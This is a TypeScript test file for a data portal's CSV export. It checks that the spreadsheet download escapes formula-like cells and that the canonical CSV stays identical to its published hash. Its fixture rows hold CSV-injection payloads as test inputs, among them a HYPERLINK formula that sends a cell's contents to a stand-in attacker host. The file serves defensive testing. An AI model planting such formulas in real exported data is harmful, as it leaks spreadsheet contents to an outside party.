import { createHash } from 'node:crypto'
import { parse } from 'csv-parse/sync'
import t from 'tap'
import { makeFixture } from '../helpers/fixture.ts'
import { appFor } from '../helpers/server.ts'

/**
 * The spreadsheet variant (`?bom=1`) neutralises formula-like text (OWASP CSV injection); the
 * canonical CSV, whose SHA-256 the metadata publishes, stays exactly what was ingested.
 */
const sha256 = (bytes: Buffer): string => createHash('sha256').update(bytes).digest('hex')

const CATALOG = `id: notes
title: 备注
description: cells a spreadsheet would run
provider: { name: 测试局 }
theme: 信用服务
keywords: [测试]
grade: 1
open: unconditional
source: { path: notes.csv }
primary_key: id
fields:
  - { name: id, type: integer, title: 编号 }
  - { name: label, type: string, title: 标签 }
  - { name: amount, type: number, title: 金额 }
  - { name: day, type: date, title: 日期 }
`

const ROWS: Array<[string, string, string]> = [
  ['=1+2', '-5', "'=1+2"],
  ['"=HYPERLINK(""http://evil.example/?d=""&A1,""详情"")"', '3.5', '\'=HYPERLINK("http://evil.example/?d="&A1,"详情")'],
  ['+1 more', '0', "'+1 more"],
  ['-', '-0.25', "'-"],
  ['@SUM(A1:A9)', '1', "'@SUM(A1:A9)"],
  ['\tcmd', '2', "'\tcmd"],
  ['"\rcmd"', '3', "'\rcmd"],
  ['a=b', '4', 'a=b'],
  ['北京市', '5', '北京市'],
  ['', '6', ''],
]

t.test('?bom=1 prefixes formula-like string cells with \' while download.csv stays as published', async (t) => {
  const fx = makeFixture(t)
  fx.writeCatalog('notes', CATALOG)
  fx.writeSource('notes.csv', `id,label,amount,day\n${ROWS.map(([label, amount], i) => `${i + 1},${label},${amount},2024-01-0${(i % 9) + 1}`).join('\n')}\n`)
  const ingest = await fx.cli('ingest')
  t.equal(ingest.code, 0, ingest.stderr)
  const app = await appFor(t, fx)
  const published = (await app.inject('/api/v1/datasets/notes')).json().distributions.find((d: { format: string }) => d.format === 'csv')

  const canonical = await app.inject('/api/v1/datasets/notes/download.csv')
  t.equal(sha256(canonical.rawPayload), published.sha256, 'the canonical file is the one whose SHA-256 is published')
  const plainCells = parse(canonical.rawPayload, { columns: true }) as Array<Record<string, string>>
  t.equal(plainCells[0]?.label, '=1+2', 'and keeps the text as ingested')

  const excel = await app.inject('/api/v1/datasets/notes/download.csv?bom=1')
  t.equal(excel.statusCode, 200)
  t.same(excel.rawPayload.subarray(0, 3), Buffer.from([0xef, 0xbb, 0xbf]), 'starts with the BOM')
  t.equal(excel.headers.etag, `"${sha256(excel.rawPayload)}"`, 'its own strong ETag')
  t.not(excel.headers.etag, canonical.headers.etag)
  t.match(excel.headers['content-disposition'], /filename="notes-v1\.excel\.csv"/, 'saved beside the canonical file, not over it')
  const cells = parse(excel.rawPayload, { columns: true, bom: true }) as Array<Record<string, string>>
  t.same(cells.map((c) => c.label), ROWS.map(([, , safe]) => safe), 'string cells that start = + - @ TAB CR are text')
  t.same(cells.map((c) => c.amount), ROWS.map(([, amount]) => amount), 'negative numbers stay numbers')
  t.same(cells.map((c) => c.day), plainCells.map((c) => c.day), 'other fields unchanged')
  const unprefixed = excel.rawPayload.subarray(3).toString('utf8').replace(/(^|,|")'(?=[=+\-@\t\r])/gm, '$1')
  t.equal(unprefixed, canonical.rawPayload.toString('utf8'), 'otherwise byte for byte the canonical CSV')

  const ranged = await app.inject({ url: '/api/v1/datasets/notes/download.csv?bom=1', headers: { range: 'bytes=3-', 'if-range': excel.headers.etag as string } })
  t.equal(ranged.statusCode, 206, 'resumable against its own ETag')
  t.same(ranged.rawPayload, excel.rawPayload.subarray(3))
})
